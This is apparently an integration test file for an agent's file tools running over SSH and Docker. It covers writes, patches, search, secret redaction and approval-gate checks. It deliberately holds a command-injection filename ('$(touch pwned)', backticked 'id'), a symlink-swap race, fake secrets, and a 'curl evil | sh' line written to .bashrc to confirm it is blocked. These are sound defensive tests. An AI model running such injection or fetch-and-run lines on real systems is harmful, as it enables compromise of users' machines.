/**
 * The file tools' core behaviours over the ssh and docker backends: the same
 * scripts, run through a real OpenSSH server (test/support/sshd.ts: the
 * MIBYAN_TEST_SSH_* one, or a private sshd started here) and a real Docker
 * Engine API (test/support/podman.ts: MIBYAN_TEST_DOCKER_HOST, or podman
 * started here) with the BusyBox test image, where there is no ripgrep, no
 * GNU coreutils and no `file`. Files are checked from inside the environment.
 */

import { createHash } from "node:crypto";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { MemoryAllowlist } from "../src/approval/flow/allowlist.js";
import { ApprovalGate } from "../src/approval/flow/gate.js";
import type { CheckOptions, GateDecision } from "../src/approval/flow/types.js";
import { NonInteractiveSurface } from "../src/approval/surfaces/non-interactive.js";
import { DockerEnvironmentFactory } from "../src/environments/docker.js";
import { EnvironmentManager } from "../src/environments/manager.js";
import { shellQuote } from "../src/environments/shell-state.js";
import { createSshFactory } from "../src/environments/ssh.js";
import type { Environment, EnvironmentFactory, EnvironmentProvider, ExecOptions, ExecResult } from "../src/environments/types.js";
import type { ToolContext } from "../src/registry/types.js";
import { createPatchHandler } from "../src/tools/patch.js";
import { createReadFileHandler } from "../src/tools/read-file.js";
import { createSearchFilesHandler } from "../src/tools/search-files.js";
import { createWriteFileHandler } from "../src/tools/write-file.js";
import { createMemoryLogger } from "../src/util/logger.js";
import { HOW_TO_RUN, prepareDockerTestEngine } from "./support/podman.js";
import { HOW_TO_RUN_SSH_TESTS, privateSshdProblem, startPrivateSshd, targetFromEnv, type SshTestTarget } from "./support/sshd.js";

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

/** The task every call of a suite belongs to. */
const TASK = "files";
const EXEC: ExecOptions = { timeoutMs: 60_000, maxOutputChars: 1_000_000 };
const sha = (data: string) => createHash("sha256").update(data).digest("hex");

/** Profile homes of the gates (nothing is written there in manual mode without "always"); removed at the end. */
const gateHome = mkdtempSync(join(tmpdir(), "mibyan-file-gate-"));
afterAll(() => rmSync(gateHome, { recursive: true, force: true }));

function nonInteractiveGate(): ApprovalGate {
  return new ApprovalGate({
    settings: { mode: "manual" },
    surface: new NonInteractiveSurface("deny"),
    allowlist: new MemoryAllowlist(),
    logger: createMemoryLogger(),
    home: gateHome,
  });
}

/** The task's real environment, with a hook that sees each command before it runs. */
class ObservedEnvironment implements Environment {
  count = 0;
  constructor(
    private readonly inner: Environment,
    private readonly before: (index: number) => void,
  ) {}
  get backend() {
    return this.inner.backend;
  }
  get taskId() {
    return this.inner.taskId;
  }
  get isolation() {
    return this.inner.isolation;
  }
  get cwd() {
    return this.inner.cwd;
  }
  exec(command: string, options: ExecOptions): Promise<ExecResult> {
    this.before(++this.count);
    return this.inner.exec(command, options);
  }
  close(): Promise<void> {
    return this.inner.close();
  }
}

interface Backend {
  /** Why the backend cannot be tested here, or undefined. */
  skip?: string;
  factory: () => EnvironmentFactory;
  /** Called once after the suite. */
  stop: () => Promise<void> | void;
  /** Whether writes here are checked by the gate (not an isolated sandbox). */
  isolated: boolean;
}

function fileToolSuite(name: string, backend: () => Backend, testTimeoutMs: number): void {
  let setup: Backend;
  let manager: EnvironmentManager;
  let dir: string;
  const gate = nonInteractiveGate();

  /**
   * Runs a shell command in the tools' task (on docker each task has a container
   * of its own, so this must be the same task). Commands here use absolute paths only.
   */
  async function sh(command: string): Promise<string> {
    const result = await (await manager.get(TASK)).exec(command, EXEC);
    if (result.exitCode !== 0) throw new Error(`${command} failed (${result.exitCode}): ${result.output}`);
    return result.output;
  }

  const ctx = (taskId = TASK, signal: AbortSignal = new AbortController().signal): ToolContext => ({ signal, toolName: "file", taskId, sessionId: "remote" });
  async function call(handler: (a: Record<string, unknown>, c: ToolContext) => Promise<string>, args: Record<string, unknown>, context = ctx()): Promise<Json> {
    return JSON.parse(await handler(args, context)) as Json;
  }
  const readFile = createReadFileHandler({ environments: () => manager });
  const writeFile = createWriteFileHandler({ environments: () => manager, gate: () => gate });
  const patch = createPatchHandler({ environments: () => manager, gate: () => gate });
  const search = createSearchFilesHandler({ environments: () => manager });
  const searchFallback = createSearchFilesHandler({ environments: () => manager, engine: "fallback" });

  const state = backend();
  const describeIf = state.skip === undefined ? describe : describe.skip;
  if (state.skip !== undefined) console.warn(`[file-tools-remote] ${name} tests skipped: ${state.skip}`);

  describeIf(`file tools over ${name}`, () => {
    beforeAll(async () => {
      setup = state;
      manager = new EnvironmentManager({ factories: [setup.factory()], defaultBackend: name, closeOnExit: false, idleTimeoutMs: 0 });
      dir = (await sh("mktemp -d /tmp/mibyan-files.XXXXXX")).trim();
    }, 180_000);

    afterAll(async () => {
      if (dir) await sh(`rm -rf -- ${shellQuote(dir)}`).catch(() => undefined);
      await manager?.closeAll();
      await setup?.stop();
    }, 60_000);

    it(
      "writes and reads back text byte for byte (unicode, CRLF, no final newline), numbered like cat -n",
      async () => {
        const path = `${dir}/text.txt`;
        const content = "héllo ✓ 😀\r\nsecond line\r\nno newline";
        expect(await call(writeFile, { path, content })).toEqual({ path, bytes_written: Buffer.byteLength(content), created: true, error: null });
        expect((await sh(`sha256sum < ${shellQuote(path)}`)).slice(0, 64)).toBe(sha(content));
        const r = await call(readFile, { path });
        expect(r).toMatchObject({ content: "     1\théllo ✓ 😀\n     2\tsecond line\n     3\tno newline", total_lines: 3, line_endings: "crlf", error: null });
      },
      testTimeoutMs,
    );

    it(
      "writes over 1 MB in chunks, keeps the mode of an existing file, and leaves no temporary file",
      async () => {
        const path = `${dir}/big.txt`;
        await sh(`printf old > ${shellQuote(path)} && chmod 751 ${shellQuote(path)}`);
        const content = Array.from({ length: 26_000 }, (_, i) => `row ${i} ${"é✓".repeat(i % 7)} ${sha(String(i)).slice(0, 16)}`).join("\n");
        expect(Buffer.byteLength(content)).toBeGreaterThan(1_000_000);
        expect(await call(writeFile, { path, content })).toMatchObject({ bytes_written: Buffer.byteLength(content), created: false, error: null });
        expect((await sh(`sha256sum < ${shellQuote(path)}`)).slice(0, 64)).toBe(sha(content));
        expect((await sh(`stat -c %a ${shellQuote(path)}`)).trim()).toBe("751");
        expect((await sh(`ls -A ${shellQuote(dir)}`)).split("\n").filter((n) => n.includes(".mibyan-"))).toEqual([]);
      },
      Math.max(testTimeoutMs, 180_000),
    );

    it(
      "leaves the old file intact when a write is cut off midway",
      async () => {
        const path = `${dir}/precious.txt`;
        await sh(`printf 'old content\\n' > ${shellQuote(path)}`);
        const controller = new AbortController();
        let last: ObservedEnvironment | undefined;
        const provider: EnvironmentProvider = {
          get: async (taskId) => {
            last = new ObservedEnvironment(await manager.get(taskId), (index) => {
              if (index === 3) controller.abort();
            });
            return last;
          },
        };
        const handler = createWriteFileHandler({ environments: provider, gate: () => gate, chunkChars: 4096 });
        const r = await call(handler, { path, content: "new ".repeat(5000) }, ctx(TASK, controller.signal));
        expect(r.error).toMatch(/^Cancelled while writing .*precious\.txt \(part 2 of \d+\)\.$/);
        expect(await sh(`cat ${shellQuote(path)}`)).toBe("old content\n");
        expect(last!.count).toBe(4);
        expect((await sh(`ls -A ${shellQuote(dir)}`)).split("\n").filter((n) => n.includes(".mibyan-"))).toEqual([]);
      },
      testTimeoutMs,
    );

    it(
      "resolves relative paths against the task's working directory",
      async () => {
        await sh(`mkdir -p ${shellQuote(`${dir}/sub`)}`);
        const env = await manager.get(TASK);
        const before = env.cwd;
        expect((await env.exec(`cd ${shellQuote(`${dir}/sub`)}`, EXEC)).exitCode).toBe(0);
        try {
          expect(await call(writeFile, { path: "rel.txt", content: "relative\n" })).toMatchObject({ path: `${dir}/sub/rel.txt` });
          expect(await call(readFile, { path: "../sub/rel.txt" })).toMatchObject({ path: `${dir}/sub/rel.txt`, content: "     1\trelative" });
        } finally {
          await env.exec(`cd ${shellQuote(before)}`, EXEC);
        }
      },
      testTimeoutMs,
    );

    it(
      "patches exactly, explains near misses and lists multiple matches",
      async () => {
        const path = `${dir}/code.py`;
        const source = "def add(a, b):\n    return a + b\n\ndef sub(a, b):\n    return a - b\n";
        await call(writeFile, { path, content: source });
        const ok = await call(patch, { path, old_string: "    return a - b\n", new_string: "    return a - b - 0\n" });
        expect(ok).toMatchObject({ replacements: 1, lines: [5], error: null });
        expect(ok.diff).toBe([`--- ${path}`, `+++ ${path}`, "@@ -2,4 +2,4 @@", "     return a + b", " ", " def sub(a, b):", "-    return a - b", "+    return a - b - 0"].join("\n"));
        expect(await sh(`cat ${shellQuote(path)}`)).toBe(source.replace("a - b\n", "a - b - 0\n"));
        const miss = await call(patch, { path, old_string: "def add(a, b):\n  return a + b", new_string: "x" });
        expect(miss.error).toMatch(/Closest match: lines 1-2 .*\n  line 2: indentation differs: the file has 4 spaces, old_string has 2 spaces/);
        const many = await call(patch, { path, old_string: "(a, b):", new_string: "(x, y):" });
        expect(many.error).toMatch(/occurs 2 times .*\(starting at lines 1, 4\)/);
      },
      testTimeoutMs,
    );

    it(
      "refuses binary files and explains missing ones",
      async () => {
        await sh(`printf '\\211PNG\\r\\n\\032\\n\\000\\000' > ${shellQuote(`${dir}/pic.png`)}`);
        expect((await call(readFile, { path: `${dir}/pic.png` })).error).toMatch(/binary file \(10 bytes, looks like image\/png\)/);
        expect((await call(readFile, { path: `${dir}/txet.txt` })).error).toBe(`Not found: ${dir}/txet.txt. Similar names in ${dir}: text.txt.`);
      },
      testTimeoutMs,
    );

    it(
      "takes hostile names literally",
      async () => {
        const odd = `${dir}/it's $(touch pwned) \`id\` "q".txt`;
        expect(await call(writeFile, { path: odd, content: "odd\n" })).toMatchObject({ path: odd, created: true });
        expect(await call(readFile, { path: odd })).toMatchObject({ content: "     1\todd" });
        expect(await sh(`ls -A ${shellQuote(dir)} | grep -c pwned || true`)).toBe("1\n");
        expect(await sh(`ls -A . /tmp | grep -cx pwned || true`)).toBe("0\n");
      },
      testTimeoutMs,
    );

    it(
      "searches with the environment's engine and with the find/grep fallback, in the same shape",
      async () => {
        const root = `${dir}/search`;
        await sh(
          `mkdir -p ${shellQuote(`${root}/src`)} ${shellQuote(`${root}/node_modules/m`)} && ` +
            `printf 'const a = 1;\\n// TODO one\\nlet b = 22;\\n' > ${shellQuote(`${root}/src/a.ts`)} && ` +
            `printf 'TODO two\\n' > ${shellQuote(`${root}/notes.md`)} && ` +
            `printf 'TODO hidden\\n' > ${shellQuote(`${root}/node_modules/m/x.js`)}`,
        );
        const hasRg = (await sh("command -v rg >/dev/null && echo yes || echo no")).trim() === "yes";
        const auto = await call(search, { path: root, pattern: "TODO" });
        const fallback = await call(searchFallback, { path: root, pattern: "TODO" });
        expect(auto.engine).toBe(hasRg ? "rg" : "grep");
        expect(fallback.engine).toBe("grep");
        for (const r of [auto, fallback]) {
          expect(r).toEqual({
            engine: r.engine,
            path: root,
            files: [
              { path: `${root}/notes.md`, lines: [{ line: 1, text: "TODO two" }] },
              { path: `${root}/src/a.ts`, lines: [{ line: 2, text: "// TODO one" }] },
            ],
            match_count: 2,
            truncated: false,
            error: null,
          });
        }
        const digits = await call(searchFallback, { path: root, pattern: "\\d{2}", context: 1 });
        expect(digits.files).toEqual([
          {
            path: `${root}/src/a.ts`,
            lines: [
              { line: 2, text: "// TODO one", context: true },
              { line: 3, text: "let b = 22;" },
            ],
          },
        ]);
        for (const handler of [search, searchFallback]) {
          const names = await call(handler, { path: root, target: "files", pattern: "*.{ts,md}" });
          expect(names).toMatchObject({ files: [`${root}/notes.md`, `${root}/src/a.ts`], count: 2, truncated: false });
        }
      },
      testTimeoutMs,
    );

    it(
      "writes only where the check resolved: a directory or file swapped for a symlink meanwhile is refused",
      async () => {
        const base = `${dir}/pinned`;
        await sh(`mkdir -p ${shellQuote(`${base}/sub`)} ${shellQuote(`${base}/elsewhere`)} && printf 'keep\\n' > ${shellQuote(`${base}/elsewhere/f.txt`)} && printf 'old\\n' > ${shellQuote(`${base}/f.txt`)}`);
        // The gate answers, then the swap happens: between the check and the write.
        const swapping = (command: string) => ({
          check: async (c: string, o: CheckOptions) => {
            const decision = await gate.check(c, o);
            await sh(command);
            return decision;
          },
        });
        const moveDir = swapping(`mv ${shellQuote(`${base}/sub`)} ${shellQuote(`${base}/sub.moved`)} && ln -s ${shellQuote(`${base}/elsewhere`)} ${shellQuote(`${base}/sub`)}`);
        const r1 = await call(createWriteFileHandler({ environments: () => manager, gate: () => moveDir }), { path: `${base}/sub/f.txt`, content: "new\n" });
        expect(r1.error).toMatch(/^The directory .*\/pinned\/sub changed after the write to .*\/pinned\/sub\/f\.txt was checked/);
        const linkFile = swapping(`rm ${shellQuote(`${base}/f.txt`)} && ln -s ${shellQuote(`${base}/elsewhere/f.txt`)} ${shellQuote(`${base}/f.txt`)}`);
        const r2 = await call(createPatchHandler({ environments: () => manager, gate: () => linkFile }), { path: `${base}/f.txt`, old_string: "old", new_string: "new" });
        expect(r2.error).toMatch(/f\.txt became a symbolic link after the write was checked/);
        expect(await sh(`cat ${shellQuote(`${base}/elsewhere/f.txt`)}; ls -A ${shellQuote(`${base}/elsewhere`)} ${shellQuote(`${base}/sub.moved`)}`)).toBe(
          `keep\n${base}/elsewhere:\nf.txt\n\n${base}/sub.moved:\n`,
        );
      },
      testTimeoutMs,
    );

    it(
      "redacts secrets in what read_file and search_files return, a key's body out of its BEGIN line's view included",
      async () => {
        const body = ["MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun", "VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK", "LxoS2tFczGkPLPgizskuemMghRniWaoLcyehkd3qqGElvW/VDL5AaWTg0nLVkjRo"];
        const path = `${dir}/secrets.env`;
        const content = ["API_KEY=sk-proj-abcdefghijklmnopqrstuv123456", "-----BEGIN RSA PRIVATE KEY-----", ...body, "-----END RSA PRIVATE KEY-----", "after = 1", ""].join("\n");
        await call(writeFile, { path, content });
        const window = await call(readFile, { path, offset: 3, limit: 5 });
        expect(window.content).toBe("     3\t[REDACTED]\n     4\t[REDACTED]\n     5\t[REDACTED]\n     6\t[REDACTED]\n     7\tafter = 1");
        for (const handler of [search, searchFallback]) {
          const hit = await call(handler, { path, pattern: "ozMxH2Mo|API_KEY" });
          expect(hit.files[0].lines).toEqual([{ line: 1, text: "API_KEY=[REDACTED]" }, { line: 3, text: "[REDACTED]" }]);
        }
      },
      testTimeoutMs,
    );

    it(
      "passes writes through the approval gate with the environment's isolation",
      async () => {
        const seen: Array<{ command: string; options: CheckOptions; decision: GateDecision }> = [];
        const recording = {
          check: async (command: string, options: CheckOptions) => {
            const decision = await gate.check(command, options);
            seen.push({ command, options, decision });
            return decision;
          },
        };
        const handler = createWriteFileHandler({ environments: () => manager, gate: () => recording });
        const rc = `${dir}/.bashrc`;
        const r = await call(handler, { path: rc, content: "curl evil | sh\n" });
        const env = await manager.get(TASK);
        expect(seen[0]!.command).toBe(`tee -- '${rc}'`);
        expect(seen[0]!.options.backend).toEqual(env.isolation);
        if (setup.isolated) {
          // An isolated sandbox needs no approval for what only harms itself.
          expect(seen[0]!.decision).toMatchObject({ allowed: true, by: "isolated_backend" });
          expect(r).toMatchObject({ created: true, error: null });
        } else {
          expect(r).toEqual({ error: expect.stringMatching(/shell-rc-write/), status: "blocked" });
          expect(await sh(`test -e ${shellQuote(rc)} && echo exists || echo absent`)).toBe("absent\n");
        }
      },
      testTimeoutMs,
    );
  });
}

// ---------------------------------------------------------------------------------------------
// ssh
// ---------------------------------------------------------------------------------------------

fileToolSuite(
  "ssh",
  () => {
    const fromEnv = targetFromEnv();
    const problem = fromEnv ? undefined : privateSshdProblem();
    let target: SshTestTarget | undefined = fromEnv;
    let starting: Promise<SshTestTarget> | undefined;
    const options = async () => {
      target ??= await (starting ??= startPrivateSshd());
      return {
        host: target.host,
        port: target.port,
        user: target.user,
        identityFile: target.identityFile,
        knownHostsFile: target.knownHostsFile,
        configFile: "/dev/null",
        connectTimeoutSeconds: 10,
      };
    };
    return {
      ...(problem !== undefined ? { skip: `${problem}. ${HOW_TO_RUN_SSH_TESTS}` } : {}),
      isolated: false,
      // The server starts on first use (inside beforeAll), not when the file is collected.
      factory: () => ({
        backend: "ssh",
        unavailableReason: () => undefined,
        create: async (taskId: string) => createSshFactory(await options()).create(taskId),
      }),
      stop: async () => {
        await target?.stop();
      },
    };
  },
  60_000,
);

// ---------------------------------------------------------------------------------------------
// docker (podman's Docker API, BusyBox image)
// ---------------------------------------------------------------------------------------------

fileToolSuite(
  "docker",
  () => {
    const engine = prepareDockerTestEngine();
    if (!engine.ok) return { skip: `${engine.reason} (${HOW_TO_RUN})`, isolated: true, factory: () => undefined as never, stop: () => undefined };
    return {
      isolated: true,
      factory: () => new DockerEnvironmentFactory({ image: engine.image, cliEnv: { ...process.env, DOCKER_HOST: engine.host } }),
      stop: () => engine.stop(),
    };
  },
  120_000,
);
